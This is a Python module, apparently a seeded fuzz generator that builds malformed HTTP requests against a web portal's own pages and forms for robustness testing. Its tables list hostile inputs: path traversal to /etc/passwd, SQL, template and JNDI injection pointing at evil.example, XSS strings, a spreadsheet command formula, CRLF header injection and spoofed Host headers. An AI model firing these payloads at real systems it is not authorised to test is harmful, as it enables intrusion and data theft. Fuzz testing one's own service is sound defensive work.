"""Requests that no honest browser sends: drawn by a seeded generator from the addresses and the forms of the portal.

The same seed gives the same requests, so that a failure can be repeated: `Drawer(seed, ...)`.
"""

import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlencode

from lxml import etree, html  # type: ignore[import-untyped]  # ships no types

BYTES = (
    b"\0",
    b"\xff\xfe",
    b"\xc0\xaf",
    b"\xed\xa0\x80",  # half of a surrogate pair
    b"..%2f..%2f..%2fetc%2fpasswd",
    b"../../../../etc/passwd",
    b"%00",
    b"%zz%",
    b"%0d%0aSet-Cookie: a=b",
    b"\r\nSet-Cookie: a=b",
    b"x" * 300,
    b"x" * 6000,
)
TEXTS = (
    "",
    " ",
    "-1",
    "0",
    "00",
    "1e309",
    "NaN",
    "-Infinity",
    "1_000",
    "0x10",
    "²",
    "٣",
    "2147483648",
    "9223372036854775807",
    "9223372036854775808",
    "9" * 400,
    "9" * 5000,
    "null",
    "true",
    "[]",
    '{"a": {"$gt": ""}}',
    "__proto__",
    "__all__",
    "pk",
    "id__exact",
    "password",
    "user__password__startswith",
    "' OR 1=1 --",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://evil.example}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "//evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "=cmd|' /C calc'!A0",
    "*",
    "%",
    "_",
    '"',
    '"a b',
    "(" * 200,
    "a" + "\u0301" * 500,
    "\u202egnp.exe",
    "\ufeff",
    "\u2028\u2029\u0085",
    "\x0b\x0c\x1b",
    "🦄" * 100,
    "İıßẞſﬁ",
    "0000-00-00",
    "9999-12-31",
    "99999-01-01",
    "-0001-01-01",
    "2015-02-30",
    "24:00",
    "23:59:60",
    "00000000-0000-0000-0000-000000000000",
    "{00000000-0000-0000-0000-000000000000}",
)
PARAMETERS = (
    *("q", "p", "page", "all", "o", "e", "day", "format", "language", "topic", "view", "letter", "kind", "session"),
    *("next", "follow", "_popup", "_to_field", "_changelist_filters", "_source_model", "app_label", "model_name"),
    *(
        "field_name",
        "term",
        "state",
        "date__year",
        "date__month",
        "created_at__year",
        "as_of__day",
        "session__id__exact",
    ),
    *("session__pk", "status__exact", "id__in", "user__password", "about", "source", "number", "deed", "version"),
)
METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "get", "X" * 200)
HEADERS = {
    "Accept-Encoding": ("br;q=x", "gzip;;;", ", ,,", "identity;q=0, *;q=0", "x" * 4000),
    "Accept-Language": ("xx-" * 2000, "*;q=nan", "de;q=1e9", "\xff\xfe"),
    "Authorization": ("Basic ????", "Bearer " + "x" * 4000, "\xff"),
    "Cookie": (
        *("=", ";;;;", "a", "csrf=\xff; session=\xff", "session=" + "x" * 4000, "csrf=" + "x" * 64, "voter=a:b"),
        *("session=.eJw:1a:x; csrf=short; voter=" + "00" * 16 + ":x", "__Host-session=x; __Host-csrf=y", "a=" * 500),
    ),
    "Content-Type": (
        *("multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=" + "x" * 300),
        *(
            "application/x-www-form-urlencoded; charset=utf-7",
            "text/plain; charset=nonsense",
            "application/json",
            "\xff",
        ),
        *("application/x-www-form-urlencoded; charset=utf-16", "multipart/form-data; boundary=x; charset=idna", "/"),
    ),
    "Host": ("evil.example", "", "127.0.0.1:99999", "[::1", "127.0.0.1:8000@evil.example", "\xff", "a" * 3000, "a b"),
    "If-Match": ('"x"', "*", "W/", "\xff", '"' * 999),
    "If-Modified-Since": (
        "yesterday",
        "Thu, 01 Jan 99999 00:00:00 GMT",
        "\xff",
        "0" * 500,
        "Sun, 00 Jan 0000 00:00:00 GMT",
    ),
    "If-None-Match": ('"', "*", 'W/"x", "y', "x" * 6000, '"\xff"'),
    "If-Range": ('"x"', "Thu, 01 Jan 1970 00:00:00 GMT", "\xff"),
    "Origin": ("null", "https://evil.example", "file://", "http://[", "\xff"),
    "Range": (
        "bytes=-",
        "bytes=9-1",
        "bytes=" + "9" * 400 + "-",
        "bytes=0-1," * 400,
        "lines=1-2",
        "bytes=-0",
        "bytes=\xb2-",
    ),
    "Referer": ("//evil.example", "http://[", "\xff", "x" * 6000, "javascript:1"),
    "Transfer-Encoding": ("chunked", "identity", "x"),
    "X-Forwarded-For": (
        "",
        ",,,",
        "x" * 4000,
        "::ffff:1.2.3.4",
        "1.2.3.4, fe80::1%eth0",
        "[::1]:80",
        "999.1.1.1",
        "\xff",
    ),
    "X-Forwarded-Host": ("evil.example",),
    "X-Forwarded-Proto": ("https", "http, https", "gopher", "\xff"),
    "X-Http-Method-Override": ("DELETE",),
    "X-Original-Url": ("/admin/",),
    "X-Request-Id": ("x" * 4000, "a\tb", "\xff"),
    "X-Requested-With": ("XMLHttpRequest",),
}
BODIES = (
    b"",
    b"\0" * 1000,
    b"\xff\xfe=\xff",
    b"a=%00&b=%ff%fe&c=%zz",
    b"a&" * 4000,
    b"&=&=&==",
    b"{" * 5000,
    b'{"a": ' * 2000,
    b"--x\r\n\r\n--x--",
    b'--x\r\nContent-Disposition: form-data; name="file"; filename="../../x.pdf\\0"\r\n\r\n%PDF\r\n--x--\r\n',
    b'--x\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!\r\n--x--\r\n',
    b"--x\r\n" + b"A: b\r\n" * 3000,
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """A request as bytes and latin-1 text, which is what a server hands over."""

    method: str
    path: str
    query: str = ""
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)

    @property
    def environ(self) -> dict[str, Any]:
        """What a WSGI server makes of it (PEP 3333)."""
        named = {f"HTTP_{name.upper().replace('-', '_')}": value for name, value in self.headers.items()}
        if "HTTP_CONTENT_TYPE" in named:
            named["CONTENT_TYPE"] = named.pop("HTTP_CONTENT_TYPE")
        return {"QUERY_STRING": self.query, "PATH_INFO": self.path, **named}


@dataclass(frozen=True, slots=True)
class Target:
    """An address, and the forms that stand on its page: what they send when nobody changes anything."""

    path: str
    forms: tuple[tuple[tuple[str, str], ...], ...] = ()


def target(path: str, page: bytes) -> Target:
    """Return the address with the forms of its page."""
    try:
        found = html.fromstring(page).forms if b"<form" in page else []
    except (etree.ParserError, ValueError):
        found = []
    return Target(path, tuple(tuple(_sent(form)) for form in found))


def _sent(form: Any) -> list[tuple[str, str]]:
    """What a form sends, each of its buttons included: what is not one's own name for an action is ignored."""
    buttons = form.xpath(".//input[@type='submit'][@name]/@name | .//button[@name]/@name")
    pressed = [(str(name), "x") for name in buttons if "publish" not in name]  # a PDF takes its time
    return [(name, value) for name, value in form.form_values() if isinstance(value, str)] + pressed[:2]


class Drawer:
    """Draws hostile requests at these targets."""

    def __init__(self, seed: int, targets: list[Target]) -> None:
        self.random = random.Random(seed)  # noqa: S311 (the same requests each time)
        self.targets = targets

    def draw(self, count: int) -> Iterator[Hostile]:
        """Draw so many requests, round about the targets, so that each address has its share."""
        rounds = -(-count // len(self.targets))
        order = [at for _round in range(rounds) for at in self.random.sample(self.targets, len(self.targets))]
        for at in order[:count]:
            yield self._one(at)

    def _one(self, at: Target) -> Hostile:
        kinds = [self._path, self._query, self._headers, self._method]
        if at.forms:
            kinds += [self._form, self._form, self._form]
        drawn: Hostile = self.random.choice(kinds)(at)
        return drawn

    def _value(self) -> bytes:
        return self.random.choice([*BYTES, *(each.encode() for each in TEXTS)])

    def _path(self, at: Target) -> Hostile:
        parts = at.path.encode().split(b"/")
        parts[self.random.randrange(1, len(parts))] = self._value()
        return Hostile("GET", b"/".join(parts).decode("latin-1"))

    def _query(self, at: Target) -> Hostile:
        names = self.random.choices(PARAMETERS, k=self.random.randint(1, 4)) * self.random.choice([1, 1, 3])
        pairs = [f"{name}={quote(self._value(), safe=self.random.choice(['', '/&=%;']))}" for name in names]
        return Hostile("GET", _wire(at.path), "&".join(pairs).encode().decode("latin-1"))

    def _headers(self, at: Target) -> Hostile:
        names = self.random.sample(sorted(HEADERS), 3)
        headers = {name: self.random.choice(HEADERS[name]) for name in names}
        return Hostile(self.random.choice(["GET", "HEAD", "POST"]), _wire(at.path), headers=headers)

    def _method(self, at: Target) -> Hostile:
        kinds = ("application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json")
        headers = {"Content-Type": self.random.choice([*kinds, *HEADERS["Content-Type"]])}
        method = self.random.choice(METHODS)
        return Hostile(method, _wire(at.path), body=self.random.choice(BODIES), headers=headers)

    def _form(self, at: Target) -> Hostile:
        sent = list(self.random.choice(at.forms))
        for _time in range(self.random.randint(1, 3)):
            self._spoil(sent)
        body = urlencode([(name.encode("utf-8", "replace"), value) for name, value in sent])
        return Hostile(
            "POST", _wire(at.path), body=body.encode(), headers={"Content-Type": "application/x-www-form-urlencoded"}
        )

    def _spoil(self, sent: list[Any]) -> None:
        if not sent:
            sent.append(("x", self._value()))
        place = self.random.randrange(len(sent))
        name = sent[place][0]
        change = self.random.choice(["replace", "replace", "replace", "repeat", "drop", "rename"])
        if change == "replace":
            sent[place] = (name, self._value())
        elif change == "repeat":
            sent.append((name, self._value()))
        elif change == "drop":
            del sent[place]
        else:
            sent[place] = (f"{name}\0\ud800[]", self._value())


def _wire(path: str) -> str:
    return path.encode().decode("latin-1")
